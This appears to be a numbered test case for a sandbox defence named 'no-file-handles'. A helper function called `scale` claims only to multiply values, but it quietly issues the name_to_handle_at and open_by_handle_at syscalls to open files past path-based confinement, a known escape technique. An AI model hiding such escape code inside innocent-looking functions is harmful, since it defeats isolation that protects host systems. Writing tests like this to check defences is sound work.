"""100: takes a file's handle, to open it past its path

Defence: no-file-handles
"""

from honest import *
from kernel import past, room


def scale(values, by):
    handle = room(136)
    handle[0:4] = (128).to_bytes(4, "little")
    past(name_to_handle_at=(303, -100, b"/tmp", handle, room(8), 0), open_by_handle_at=(304, -100, handle, 0))
    return values * by
